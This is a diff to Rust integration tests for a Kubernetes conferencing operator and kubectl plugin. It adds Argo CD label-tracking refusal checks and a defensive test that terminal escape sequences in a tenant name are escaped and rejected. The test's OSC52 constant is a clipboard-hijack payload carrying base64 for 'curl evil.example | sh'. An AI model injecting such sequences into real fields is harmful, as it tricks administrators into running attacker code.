@@ -8,10 +8,12 @@ mod support;
 use std::path::{Path, PathBuf};
 use std::process::Stdio;
 
-use conferencing_operator::api::{ConditionStatus, ConferencingTenant, ConferencingUser};
+use conferencing_operator::api::{ConditionStatus, ConferenceIdClaim, ConferencingTenant, ConferencingUser};
 use k8s_openapi::api::core::v1::ConfigMap;
-use kube::ResourceExt;
-use kube::api::{Patch, PatchParams, PostParams};
+use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
+use kube::api::{Api, Patch, PatchParams, PostParams};
+use kube::{CustomResourceExt, ResourceExt};
+use support::private::{PrivateCluster, without_patterns};
 use support::*;
 
 /// The plugin on PATH, for kubectl to find.
@@ -299,12 +301,20 @@ async fn gitops_managed_users_are_refused_with_the_yaml_to_commit() {
             .into(),
     );
     env.apply(&hank).await;
+    // Argo CD's label tracking (its default before 3.0): the instance label, nothing else.
+    let mut ivy = user("ivy", "acme", "");
+    ivy.metadata.labels = Some([("app.kubernetes.io/instance".to_string(), "conferencing-acme".to_string())].into());
+    env.apply(&ivy).await;
     env.wait_ready("gina").await;
     env.wait_ready("hank").await;
+    env.wait_ready("ivy").await;
+    let ivy_before = env.user("ivy").await;
 
-    for (name, sign) in
-        [("gina", "field manager argocd-controller"), ("hank", "annotation argocd.argoproj.io/tracking-id")]
-    {
+    for (name, sign) in [
+        ("gina", "field manager argocd-controller"),
+        ("hank", "annotation argocd.argoproj.io/tracking-id"),
+        ("ivy", "label app.kubernetes.io/instance"),
+    ] {
         let r = plugin.run(&["reset-pin", name, "-n", &env.ns]).await.expect(3);
         assert!(r.stderr.contains("Argo CD") && r.stderr.contains(sign), "{}", r.stderr);
         let change: serde_json::Value = serde_yaml::from_str(&r.stdout).expect("stdout is the YAML to commit");
@@ -312,12 +322,107 @@ async fn gitops_managed_users_are_refused_with_the_yaml_to_commit() {
         assert!(token.starts_with("kubectl-"), "{}", r.stdout);
         assert_eq!(requested(&env.user(name).await), None, "{name} was changed despite the refusal");
     }
+    let ivy_after = env.user("ivy").await;
+    assert_eq!(ivy_after.metadata.generation, ivy_before.metadata.generation, "ivy's spec was written");
+    assert_eq!(ivy_after.spec, ivy_before.spec);
 
     let r = plugin.run(&["reset-pin", "gina", "-n", &env.ns, "--force"]).await.expect(0);
     assert!(r.stderr.contains("warning") && r.stderr.contains("resetPin"), "{}", r.stderr);
     let u = env.user("gina").await;
     let token = requested(&u).expect("written with --force");
     assert_eq!(u.status.and_then(|s| s.handled_requests.reset_pin), Some(token));
+}
+
+/// OSC 52 (write the administrator's clipboard), then cursor up and clear the line.
+const OSC52: &str = "acme\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}[2A\u{1b}[2K";
+
+/// Fails if `text` holds a control character other than a line break (an ESC sequence).
+fn assert_no_escapes(what: &str, text: &str) {
+    let raw = text.chars().find(|&c| c != '\n' && (c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)));
+    assert!(raw.is_none(), "{what}: {raw:?} reaches the terminal raw:\n{text}");
+}
+
+/// ESC sequences in `spec.tenantRef.name` of a user stored before the CRD had its pattern
+/// (so the CRDs here are an older release's): the operator refuses the name as InvalidSpec
+/// and shows it escaped in the Ready message and the Event; the plugin shows a status that
+/// an operator from before the fix wrote (the name copied raw into the message) escaped too;
+/// and the current CRD refuses such a name at admission.
+#[tokio::test]
+async fn escape_sequences_in_a_tenant_ref_reach_neither_events_nor_terminals() {
+    let Some(cluster) = PrivateCluster::start() else { return };
+    let client = cluster.client().await;
+    install_crds(
+        &client,
+        [
+            ConferenceIdClaim::crd(),
+            without_patterns(ConferencingTenant::crd()),
+            without_patterns(ConferencingUser::crd()),
+        ],
+    )
+    .await;
+    let mut env = TestEnv::on(&cluster, "kc-escapes").await;
+    env.start_operator();
+    env.apply(&example_objects().0).await;
+    let mut mallory = user("mallory", "acme", "");
+    mallory.spec.tenant_ref.name = OSC52.into();
+    env.apply(&mallory).await;
+
+    let u = env.wait_reason("mallory", "InvalidSpec").await;
+    let ready = ready_condition(&u).expect("Ready");
+    assert!(ready.message.contains("spec.tenantRef.name"), "{}", ready.message);
+    assert!(ready.message.contains("\\u{1b}]52;c;"), "the value is shown escaped: {}", ready.message);
+    assert_no_escapes("the Ready message", &ready.message);
+    let events = wait_until("an InvalidSpec Event", TIMEOUT, || async {
+        let e = env.events("mallory", "InvalidSpec").await;
+        (!e.is_empty()).then_some(e)
+    })
+    .await;
+    for e in &events {
+        assert_no_escapes("the Event", e.message.as_deref().unwrap_or_default());
+    }
+
+    // What an operator from before the fix wrote: the name, raw, in a TenantNotFound message.
+    env.stop_operator();
+    let message = format!("ConferencingTenant {OSC52} does not exist in this namespace");
+    let status = serde_json::json!({"status": {"conditions": [
+        {"type": "Ready", "status": "False", "reason": "TenantNotFound", "message": message,
+         "lastTransitionTime": "2026-01-01T00:00:00Z", "observedGeneration": u.metadata.generation},
+        {"type": "Stalled", "status": "True", "reason": "TenantNotFound", "message": message,
+         "lastTransitionTime": "2026-01-01T00:00:00Z", "observedGeneration": u.metadata.generation}
+    ]}});
+    env.api::<ConferencingUser>()
+        .patch_status("mallory", &PatchParams::default(), &Patch::Merge(&status))
+        .await
+        .expect("write the old operator's status");
+    let plugin = Plugin::new();
+    let kubeconfig = [("KUBECONFIG", cluster.kubeconfig.as_path())];
+    let r = plugin.run_with(&["status", "-n", &env.ns], &kubeconfig).await.expect(0);
+    assert_no_escapes("status", &r.all());
+    assert!(r.stdout.contains("acme\\u{1b}]52;c;") && r.stdout.contains("TenantNotFound"), "{}", r.stdout);
+    let r = plugin.run_with(&["explain", "mallory", "-n", &env.ns], &kubeconfig).await.expect(0);
+    assert_no_escapes("explain", &r.all());
+    assert!(r.stdout.contains("(tenant acme\\u{1b}]52;c;"), "{}", r.stdout);
+    let r = plugin.run_with(&["reset-pin", "mallory", "-n", &env.ns, "--timeout", "2s"], &kubeconfig).await;
+    assert_no_escapes("reset-pin", &r.all());
+
+    // The current CRD refuses the name at admission.
+    let crds: Api<CustomResourceDefinition> = Api::all(client.clone());
+    let mut crd = crds.get("conferencingusers.conferencing.io").await.expect("the user CRD");
+    crd.spec = ConferencingUser::crd().spec;
+    crds.replace("conferencingusers.conferencing.io", &PostParams::default(), &crd).await.expect("replace the CRD");
+    let mut trudy = user("trudy", "acme", "");
+    trudy.metadata.namespace = Some(env.ns.clone());
+    trudy.spec.tenant_ref.name = OSC52.into();
+    let dry_run = PostParams { dry_run: true, ..PostParams::default() };
+    let users = env.api::<ConferencingUser>();
+    let refusal = wait_until("the new CRD in effect", TIMEOUT, || async {
+        match users.create(&dry_run, &trudy).await {
+            Err(kube::Error::Api(s)) if s.code == 422 => Some(s.message),
+            _ => None,
+        }
+    })
+    .await;
+    assert!(refusal.contains("spec.tenantRef.name"), "{refusal}");
 }
 
 #[tokio::test]
